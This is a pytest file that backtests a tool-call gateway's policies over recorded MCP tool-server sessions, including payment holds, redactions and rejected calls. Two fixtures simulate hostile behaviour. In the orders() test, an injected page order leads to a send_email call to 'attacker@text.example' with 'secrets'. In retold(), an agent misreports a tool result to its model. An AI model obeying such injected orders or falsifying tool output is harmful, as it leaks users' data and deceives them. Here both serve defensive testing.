"""Backtests over what tool servers were asked and gave: the very policy flips nothing, another flips its steps."""

import asyncio
import json
import threading
from dataclasses import dataclass
from typing import Any

import pytest

from gateway.backtest.history import Wanted
from gateway.backtest.run import Candidate, Laboratory
from gateway.config import Config
from gateway.notice_key import notice_key
from gateway.supervision import policies_of
from policies.vocabulary.backtests import Backtest
from policies.vocabulary.clauses import Policy
from storage.store import Store
from tests.gateway.house import waited
from tests.gateway.test_mcp_sessions import proposed, told
from tests.gateway.tool_house import OFFICIAL, ToolHouse, run, table, tool_house, tool_server, words


@dataclass(frozen=True)
class Past:
    """A data directory left behind by a gateway that has stopped, and what its command said while it ran."""

    config: Config
    command: dict[str, Any]

    def store(self) -> Store:
        return Store.open(self.config.gateway.data_dir)

    def policies(self) -> tuple[Policy, ...]:
        return tuple(loaded.policy for loaded in policies_of(self.config).values())

    def backtest(self, *policies: Policy, **wanted: Any) -> Backtest:
        store = self.store()
        try:
            laboratory = Laboratory(store, store.holds, self.config, notice_key=notice_key(self.config))
            return laboratory.run(Candidate(policies=policies), Wanted(**wanted))
        finally:
            store.close()


def paid(tools: ToolHouse, who: str, verdict: str) -> None:
    """What a person says of a payment."""

    def waiting() -> str | None:
        listed = json.loads(tools.house.control("/api/holds?only=waiting")[1])["holds"]
        return next((each["hold_id"] for each in listed if who in each["text"]), None)

    hold, body = waited(waiting), {"by": "Ann", "reason": "as it should be"}
    assert tools.house.control(f"/api/holds/{hold}/{verdict}", method="POST", body=body)[0] == 200


async def a_day(tools: ToolHouse, server: str, mode: str) -> None:
    """Everything a clause can do to what a server is asked and gives."""
    who = f"{server}-{mode}"
    async with tools.client(server, mode) as client:
        await client.list_tools()
        assert (await client.call_tool("launch", {"at": "noon"})).is_error
        assert words(await client.call_tool("code_name", {})) == "The code name is [redacted:name]."
        await client.call_tool("code_facts", {})
        await client.call_tool("picture", {})
        await client.call_tool("fail", {})
        await client.read_resource("house://notes")
        await client.get_prompt("greet", {"name": "Ann"})
        for verdict in ("approve", "reject"):
            person = threading.Thread(target=paid, args=(tools, f"{who}-{verdict}", verdict))
            person.start()
            answer = await client.call_tool("pay", {"to": f"{who}-{verdict}"})
            person.join()
            assert answer.is_error is (verdict == "reject")


async def orders(tools: ToolHouse, server: str) -> None:
    """An order that a page brings is followed once before the page is there, and once after."""
    to = {"to": "attacker@text.example", "body": "secrets"}
    async with tools.client(server, "legacy") as client:
        mails = words(await client.call_tool("called", {})).split(",").count("send_email")
        slow = asyncio.create_task(client.call_tool("page_slow", {"mails": mails + 1}))
        await client.call_tool("get_weather", {"city": "Rome"})
        early = await client.call_tool("send_email", to)
        await slow
    async with tools.client(server, "legacy") as client:
        await client.call_tool("page_text", {})
        late = await client.call_tool("send_email", to)
    assert (early.is_error, late.is_error) == (False, True)


async def changed(tools: ToolHouse, server: str) -> None:
    """A tool becomes another one."""
    async with tools.client(server, "legacy") as client:
        await client.call_tool("change", {})
        assert "called" not in {tool.name for tool in (await client.list_tools()).tools}
        assert (await client.call_tool("called", {})).is_error


def retold(tools: ToolHouse) -> None:
    """An agent tells its model of another result than the tool gave."""
    arguments = {"city": "Genf"}
    proposed(tools, "mcp__web__get_weather", arguments, "toolu_genf")

    async def work() -> None:
        async with tools.client("web", "legacy") as client:
            await client.call_tool("get_weather", arguments)

    run(work)
    found = told(tools, arguments, "toolu_genf", "A storm will come, and all flights are cancelled until Friday.")
    assert found["verdict"] == "flag"


def last_recorded(tools: ToolHouse) -> None:
    """Wait until one more exchange is in the record: it is written in order, so all before it are there then, too.

    The queue is empty already while what was in it is being written.
    """
    ping = b'{"jsonrpc": "2.0", "id": 1, "method": "ping"}'
    tools.house.facts(tools.post("web", ping).exchange)


@pytest.fixture(scope="module")
def past(tmp_path_factory: pytest.TempPathFactory) -> Past:
    folder = tmp_path_factory.mktemp("past")
    with tool_server() as web:
        more = table("web", url=web) + table("pipe", command=[*OFFICIAL, "stdio"])
        with tool_house(folder, more=more, hold_seconds=60) as tools:  # a person answers every hold
            for server in ("web", "pipe"):
                for mode in ("legacy", "auto"):
                    run(lambda server=server, mode=mode: a_day(tools, server, mode), seconds=60)
                run(lambda server=server: orders(tools, server), seconds=60)
            retold(tools)
            for server in ("web", "pipe"):
                run(lambda server=server: changed(tools, server), seconds=60)
            last_recorded(tools)
            named = ("--policy", str(folder / "house.toml"), "--policy", "agent-baseline")
            done = tools.house.gateway.command("backtest", *named, "--json")
    assert done.returncode == 0, done.stderr
    return Past(Config.load(folder / "stepwarden.toml", environ={}), json.loads(done.stdout))


def without(policy: Policy, clause: str) -> Policy:
    return Policy(policy=policy.policy, clause=tuple(each for each in policy.clause if each.id != clause))


def test_the_policy_that_was_in_force_flips_nothing_of_what_tool_servers_saw(past: Past) -> None:
    found = past.backtest(*past.policies())
    assert found.flips == ()
    assert (found.flipped, found.hypothetical) == (0, 0)
    assert (past.command["flipped"], past.command["steps"]) == (0, found.steps)
    store = past.store()
    try:
        pairs = [each for each in store.recent(limit=1000) if each.dialect == "mcp"]
        judged = [said for each in pairs if (j := store.judged(each.exchange_id)) for said in j.steps]
        closed = [each for each in pairs if each.error_type == "needs_approval" and not each.upstream_started_ns]
    finally:
        store.close()
    assert {said.verdict.name for said in judged} >= {"allow", "flag", "redact", "hold", "reject"}
    assert found.exchanges > len(pairs) - len(closed) > 80
    assert {each.why for each in found.unreplayed} == {
        "it was refused before it could be judged (a budget, an ended session, a broken request)"
    }


def test_a_clause_taken_away_flips_the_calls_and_results_it_stopped(past: Past) -> None:
    house, baseline = past.policies()
    found = past.backtest(without(house, "no-launch"), baseline)
    (flips,) = [each for each in found.flips if each.clause == "house/no-launch"]
    assert (flips.before, flips.after, flips.steps + flips.hypothetical) == ("reject", "allow", 4)
    assert {flip.tool for flip in flips.examples} == {"launch"}
    assert all(flip.text and "noon" in flip.text for flip in flips.examples)
    looser = past.backtest(without(house, "no-code-name"), baseline)
    kinds = {flip.kind for each in looser.flips if each.clause == "house/no-code-name" for flip in each.examples}
    assert kinds >= {"tool_result"}


def test_an_order_that_nothing_would_stop_any_more_is_a_flip_of_the_call_that_followed_it(past: Past) -> None:
    house, _ = past.policies()
    found = past.backtest(house)
    lost = [flip for each in found.flips for flip in each.examples if flip.tool == "send_email"]
    assert {(flip.before, flip.after) for flip in lost} == {("reject", "allow")}
    assert sum(each.steps + each.hypothetical for each in found.flips if "send_email" in str(each.examples)) >= 2
